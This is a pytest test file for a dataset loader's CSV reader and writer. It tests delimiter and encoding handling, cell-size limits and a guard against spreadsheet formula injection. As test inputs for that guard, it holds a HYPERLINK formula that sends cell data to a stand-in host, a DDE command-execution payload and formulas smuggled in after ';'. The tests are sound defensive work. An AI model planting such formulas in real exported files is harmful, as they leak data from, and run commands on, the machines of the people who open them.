"""Tests for daemon/data/csvfile.py: reading CSV files (encodings, delimiters, cell limits, missing files)."""

from __future__ import annotations

import os

import pytest

from daemon.data.csvfile import csv_text, find_column, read_chunks, read_csv, safe_cell, scan_csv
from daemon.data.dataset import load_dataset
from daemon.errors import DatasetError, DatasetFormatError, EmptyDatasetError
from daemon.data.synthetic import MAPPING, synthetic_rows
from tests.conftest import write
from tests.corpus import MARKER


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_other_delimiters_are_detected(synthetic_csv, delimiter):
    """Semicolon, tab and pipe separated files load like comma separated ones."""
    ds = load_dataset(synthetic_csv(rows=30, delimiter=delimiter), mapping=MAPPING)
    assert ds.read_info.delimiter == delimiter
    assert ds.rows_used == 30
    assert ds.frame["prompt"].tolist() == [row[1] for row in synthetic_rows(30)]


def test_semicolon_file_with_commas_in_prompts(tmp_path):
    """A ';' file whose prompts are full of commas is read with ';' (the header decides)."""
    lines = ["formatted_prompt;Standardized_Rating"] + [f"cough, fever, chills, day {i};1" for i in range(20)]
    ds = load_dataset(write(tmp_path / "semi.csv", "\n".join(lines) + "\n"), mapping=MAPPING)
    assert ds.read_info.delimiter == ";"
    assert ds.frame["prompt"].tolist() == [f"cough, fever, chills, day {i}" for i in range(20)]


def test_utf8_bom_is_read(tmp_path):
    """A UTF-8 file with a BOM is read as utf-8-sig and its first column name is clean."""
    path = write(tmp_path / "bom.csv", "formatted_prompt,Standardized_Rating\nfièvre,1\n", "utf-8-sig")
    ds = load_dataset(path, mapping=MAPPING)
    assert ds.read_info.encoding == "utf-8-sig"
    assert ds.columns["prompt"] == "formatted_prompt"
    assert ds.frame["prompt"].tolist() == ["fièvre"]


def test_cp1252_falls_back_with_a_warning(tmp_path):
    """A cp1252 file is read as cp1252 and the dataset carries a warning saying so."""
    path = write(tmp_path / "win.csv", "formatted_prompt,Standardized_Rating\n“fièvre” – 38°,1\n", "cp1252")
    ds = load_dataset(path, mapping=MAPPING)
    assert ds.read_info.encoding == "cp1252"
    assert ds.frame["prompt"].tolist() == ["“fièvre” – 38°"]
    assert ds.warnings == ["the file is not valid UTF-8; it was read as cp1252 (Windows-1252): "
                           "save it as UTF-8 to be sure every character is right"]


def test_multiline_cell_over_limit_is_found_after_parsing(tmp_path):
    """A cell spread over short lines but over max_cell_bytes fails naming its row and column."""
    cell = "\n".join([f"{MARKER} line"] * 20)
    text = f'formatted_prompt,Standardized_Rating\nok,1\n"{cell}",1\n'
    with pytest.raises(DatasetFormatError) as info:
        read_csv(write(tmp_path / "ml.csv", text), max_cell_bytes=200)
    assert str(info.value).startswith("ml.csv, column 'formatted_prompt', row 2: a cell is larger than the limit")
    assert MARKER not in str(info.value)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_huge_cell_in_a_later_column_is_located(tmp_path, encoding, delimiter):
    """An oversized single-line cell is located by row and column past quotes, newlines and a BOM."""
    d = delimiter
    text = (f'formatted_prompt{d}Standardized_Rating{d}Rationale of Rating\r\n"a{d} ""b""\r\nc"{d}1{d}ok\r\n'
            f"c{d}1{d}" + "é" * 500 + "\r\n")
    with pytest.raises(DatasetFormatError) as info:
        read_csv(write(tmp_path / "late.csv", text, encoding), max_cell_bytes=100)
    assert (info.value.row, info.value.column) == (2, "Rationale of Rating")


def test_oversized_cell_in_an_unknown_column_is_named_by_position(tmp_path):
    """A column we do not know is named by position, so a headerless file never leaks a cell."""
    text = f"{MARKER} first row,1\nsecond," + "x" * 300 + "\n"
    with pytest.raises(DatasetFormatError) as info:
        read_csv(write(tmp_path / "nohead.csv", text), max_cell_bytes=100)
    assert (info.value.row, info.value.column) == (1, "#2")
    assert MARKER not in str(info.value)


def test_crlf_and_blank_lines_are_read(tmp_path):
    """CRLF line endings and blank lines between rows give clean cells and no extra rows."""
    text = "formatted_prompt,Standardized_Rating\r\na,1\r\n\r\nb,0\r\n"
    ds = load_dataset(write(tmp_path / "crlf.csv", text), mapping=MAPPING)
    assert ds.frame["prompt"].tolist() == ["a", "b"]
    assert ds.frame["rating"].tolist() == [1, 0]


def test_blank_file_is_empty(tmp_path):
    """A file of blank lines is an EmptyDatasetError."""
    with pytest.raises(EmptyDatasetError) as info:
        load_dataset(write(tmp_path / "blank.csv", "\n\n  \n"), mapping=MAPPING)
    assert info.value.message == "blank.csv: the file holds only blank lines"


def test_missing_file_is_a_dataset_error(tmp_path):
    """A path that does not exist gives a DatasetError, not FileNotFoundError."""
    with pytest.raises(DatasetError) as info:
        load_dataset(tmp_path / "nope.csv", mapping=MAPPING)
    assert str(info.value) == "nope.csv: the file does not exist (check the path and try again)"


def test_read_csv_keeps_every_column_as_text(tmp_path):
    """read_csv returns all columns as strings, short rows padded with '' and names stripped."""
    df, info = read_csv(write(tmp_path / "t.csv", " formatted_prompt , Standardized_Rating,extra\na,1,NA\nb,2\n"))
    assert list(df.columns) == ["formatted_prompt", "Standardized_Rating", "extra"]
    assert df.to_numpy().tolist() == [["a", "1", "NA"], ["b", "2", ""]]
    assert (info.file, info.delimiter, info.encoding, info.warnings) == ("t.csv", ",", "utf-8", ())


def test_a_large_file_reads_whole_and_names_the_right_line_past_the_first_parse_chunk(tmp_path):
    """The body is parsed in chunks of rows: all rows arrive in order, and a bad row far into the
    file is reported at its own line number."""
    rows = 60_000  # over two parse chunks
    lines = ["Row_ID,formatted_prompt,Standardized_Rating"] + [f"R{i},visit {i},{i % 2}" for i in range(rows)]
    df, _info = read_csv(write(tmp_path / "big.csv", "\n".join(lines) + "\n"))
    assert len(df) == rows
    assert df["Row_ID"].tolist() == [f"R{i}" for i in range(rows)]
    assert list(df.index) == list(range(rows))
    lines[55_001] = "R55000,visit 55000,1,one field too many"
    with pytest.raises(DatasetFormatError) as info:
        read_csv(write(tmp_path / "bad.csv", "\n".join(lines) + "\n"))
    assert "near line 55002:" in info.value.message


def test_fifo_in_place_of_the_dataset_is_refused_without_blocking(tmp_path):
    """A FIFO where the dataset should be is a DatasetError naming the file, never an open that
    waits for a writer."""
    os.mkfifo(tmp_path / "visits.csv")
    with pytest.raises(DatasetError) as info:
        read_csv(tmp_path / "visits.csv")
    assert (info.value.file, str(info.value).split(":")[0]) == ("visits.csv", "visits.csv")
    assert "not a regular file" in str(info.value)


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("-3", "-3"),
    ("+1.5", "+1.5"),
    ("-0.25", "-0.25"),
    ("-.5", "-.5"),
    ("-1e3", "-1e3"),
    ("Match", "Match"),
    ("a=b", "a=b"),
    ("", ""),
    (-1, "-1"),
    (None, ""),
])
def test_safe_cell_quotes_formulas_and_keeps_plain_numbers(cell, written):
    """Cells starting with = + - @, a tab or a carriage return get a leading single quote (OWASP);
    plain numbers and other text are written as they are."""
    assert safe_cell(cell) == written


def test_csv_text_writes_every_cell_safely():
    """csv_text quotes as CSV does and passes every cell, header included, through safe_cell."""
    assert csv_text([["=id", "rating"], ["-1", '=HYPERLINK("h","c")']]) == (
        "'=id,rating\n-1,\"'=HYPERLINK(\"\"h\"\",\"\"c\"\")\"\n")


def test_safe_cell_guards_a_formula_after_a_semicolon_and_its_own_quote():
    """A ``;`` followed by = + - @, a tab or a carriage return starts a formula where spreadsheets
    split cells on ``;``: that piece gets the quote, so every cell such a spreadsheet makes is
    guarded; a piece's own leading quote before a formula gets one more, so that reading back can
    take exactly ours off; other cells and pieces stay."""
    cells = ["cough;=HYPERLINK(1)", "a;+b", "a;-b", "a;@b", "a;\tb", "a;\rb", "'-ve", "''=x", "a;b", "a; =b",
             "'hello", "'-3", "=a;=b;-1", "a;'=b"]
    guarded = ["cough;'=HYPERLINK(1)", "a;'+b", "a;'-b", "a;'@b", "a;'\tb", "a;'\rb", "''-ve", "'''=x", "a;b",
               "a; =b", "'hello", "'-3", "'=a;'=b;-1", "a;''=b"]
    assert [safe_cell(c) for c in cells] == guarded
    # what a spreadsheet splitting cells on ";" makes of them: no piece starts a formula
    pieces = [p for g in guarded for p in g.split(";")]
    assert [p for p in pieces if p.startswith(("=", "+", "-", "@", "\t", "\r")) and p != "-1"] == []


def test_what_we_write_reads_back_exactly(tmp_path):
    """Cells guarded on writing (formulas, a formula after ``;``, a lone carriage return, a cell's
    own leading quote) read back, header included, as the cells that were written; a quote that is
    not our guard stays."""
    cells = ["-ve for flu", "+ve strep", "=SUM(A1)", "@home", "\tx", "\rx", "a\rb", "cough;=1", "'-already",
             "''=x", "'hello", "'-3", "-3", "'", "plain", "a;'=b", "=a;=b;'c", "x;;'"]
    rows = [["formatted_prompt", "Standardized_Rating", "-notes"], *(["p", "1", c] for c in cells)]
    path = write(tmp_path / "ours.csv", csv_text(rows))
    df, _ = read_csv(path)
    assert (list(df.columns), df["-notes"].tolist()) == (["formatted_prompt", "Standardized_Rating", "-notes"], cells)
    table = scan_csv(path)
    assert [c["-notes"].tolist() for _, c in read_chunks(table, 4, ["-notes"])] == [
        cells[0:4], cells[4:8], cells[8:12], cells[12:16], cells[16:]]


def test_find_column_takes_the_exact_name_then_any_case():
    """The exact spelling wins; otherwise a known column is found in another case; None when absent."""
    assert find_column(["C_Biosense_ID", "Row_ID"], ("Row_ID", "C_BioSense_ID")) == "Row_ID"
    assert find_column(["c_biosense_id", "Row_ID"], ("C_BioSense_ID",)) == "c_biosense_id"
    assert find_column(["Visit", "C_Biosense_ID"], ("Row_ID", "C_BioSense_ID")) == "C_Biosense_ID"
    assert find_column(["row id"], ("Row_ID",)) is None


def test_scan_csv_counts_rows_and_read_chunks_streams_the_asked_columns(tmp_path):
    """scan_csv counts the rows of a file longer than its parse chunk without keeping them;
    read_chunks gives them again in order from a start row, only the asked columns, a chunk at a time."""
    rows = 12_003
    lines = ["Row_ID,formatted_prompt,Standardized_Rating"] + [f"R{i},visit {i},{i % 2}" for i in range(rows)]
    table = scan_csv(write(tmp_path / "big.csv", "\n".join(lines) + "\n"), chunk_rows=5_000)
    assert (table.rows, table.columns, table.info.file) == (
        rows, ("Row_ID", "formatted_prompt", "Standardized_Rating"), "big.csv")
    chunks = list(read_chunks(table, 5_000, ["formatted_prompt", "Row_ID"], start=4_998))
    assert [(first, len(chunk), list(chunk.columns)) for first, chunk in chunks] == [
        (4_998, 2, ["Row_ID", "formatted_prompt"]), (5_000, 5_000, ["Row_ID", "formatted_prompt"]),
        (10_000, 2_003, ["Row_ID", "formatted_prompt"])]
    ids = [i for _, chunk in chunks for i in chunk["Row_ID"].tolist()]
    assert ids == [f"R{i}" for i in range(4_998, rows)]
    assert chunks[0][1]["formatted_prompt"].tolist() == ["visit 4998", "visit 4999"]


def test_scan_csv_names_an_oversized_cell_by_its_row_past_the_first_chunk(tmp_path):
    """A multi-line cell over the limit in a later parse chunk is reported at its own data row;
    a header with no rows is an EmptyDatasetError, as read_csv says."""
    cell = "\n".join([f"{MARKER} line"] * 20)
    text = "formatted_prompt,Standardized_Rating\n" + "ok,1\n" * 2_500 + f'"{cell}",1\n'
    with pytest.raises(DatasetFormatError) as info:
        scan_csv(write(tmp_path / "ml.csv", text), max_cell_bytes=200, chunk_rows=1_000)
    assert (info.value.row, info.value.column) == (2_501, "formatted_prompt")
    assert MARKER not in str(info.value)
    with pytest.raises(EmptyDatasetError) as info:
        scan_csv(write(tmp_path / "head.csv", "formatted_prompt,Standardized_Rating\n"))
    assert info.value.message == "head.csv: the file has a header but no data rows"
